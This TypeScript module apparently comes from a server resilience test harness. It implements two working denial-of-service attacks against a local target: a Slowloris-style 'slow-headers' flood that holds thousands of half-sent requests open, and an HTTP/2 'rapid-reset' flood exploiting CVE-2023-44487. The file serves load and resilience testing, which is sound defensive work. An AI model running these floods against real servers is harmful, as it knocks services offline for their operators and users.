import { once } from "node:events";
import { connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { type ConnectionOptions, connect as connectTls, type TLSSocket } from "node:tls";
import { sleep } from "@muster/runtime";
import type { Attack } from "../attack.ts";
import { Attacker } from "../attacker.ts";

const SLOW_CONNECTIONS = 4300;
const OPENED_AT_ONCE = 300;
const OPEN_EVERY_MS = 100;
const RESETS_AT_ONCE = 40;
const RESETS_MAX = 50_000;

/** As the local stack has it beside the plain port, where MUSTER_TLS_PORT does not name another. */
const TLS_PORT_ABOVE = 363;

/** Requests that never end their headers. */
const slowHeaders: Attack = {
  name: "slow-headers",
  takes: `keeps ${SLOW_CONNECTIONS} connections open with unfinished headers, so that nobody else can connect`,
  honest: "rest",
  shareMin: 0.99,
  worstMsMax: 2000,
  landed: ["opened"],
  async prepare(target) {
    const { hostname, port } = new URL(target.url);
    const { address } = new Attacker(target, 70);
    return async (signal) => {
      const counts = { opened: 0, closed: 0 };
      const sockets = new Set<Socket>();
      const open = (): void => {
        const socket = connect({ host: hostname, port: Number(port), localAddress: address });
        sockets.add(socket);
        socket.once("connect", () => {
          counts.opened++;
          socket.write("GET /v1/modes HTTP/1.1\r\nHost: x\r\nX-Slow: ");
        });
        socket.on("error", () => undefined).resume();
        socket.once("close", () => {
          counts.closed++;
          sockets.delete(socket);
        });
      };
      while (!signal.aborted) {
        for (let i = 0; sockets.size < SLOW_CONNECTIONS && i < OPENED_AT_ONCE; i++) open();
        await sleep(OPEN_EVERY_MS, signal);
      }
      for (const socket of sockets) socket.destroy();
      return counts;
    };
  },
};

/** CVE-2023-44487: streams that are opened and reset at once cost the server, and nothing the client. */
const rapidReset: Attack = {
  name: "rapid-reset",
  takes: "opens HTTP/2 streams and resets them at once, so that upstreams do useless work",
  honest: "rest",
  shareMin: 0.99,
  worstMsMax: 2000,
  landed: ["reset"],
  async prepare(target) {
    const port = Number(process.env["MUSTER_TLS_PORT"] ?? Number(new URL(target.url).port) + TLS_PORT_ABOVE);
    const { address } = new Attacker(target, 71);
    const options = {
      host: "127.0.0.1",
      port,
      localAddress: address,
      ALPNProtocols: ["h2"],
      rejectUnauthorized: false,
    };
    const open = (): TLSSocket => connectTls(options as ConnectionOptions); // its types leave localAddress out
    return async (signal) => {
      const counts = { reset: 0, connections: 0, failed: 0 };
      while (!signal.aborted && counts.reset < RESETS_MAX) {
        const session = connectHttp2(`https://127.0.0.1:${port}`, { createConnection: open });
        session.on("error", () => undefined);
        const ready = await Promise.race([
          once(session, "connect").then(
            () => true,
            () => false,
          ),
          sleep(2000).then(() => false),
        ]);
        counts[ready ? "connections" : "failed"]++;
        while (ready && !signal.aborted && !session.closed && !session.destroyed && counts.reset < RESETS_MAX) {
          for (let i = 0; i < RESETS_AT_ONCE && !session.closed && !session.destroyed; i++) {
            const stream = session.request({ ":path": "/v1/modes" });
            stream.on("error", () => undefined);
            stream.close(8); // CANCEL
            counts.reset++;
          }
          await sleep(5, signal);
        }
        session.destroy();
        await sleep(20, signal);
      }
      return counts;
    };
  },
};

export const httpFloods: readonly Attack[] = [slowHeaders, rapidReset];
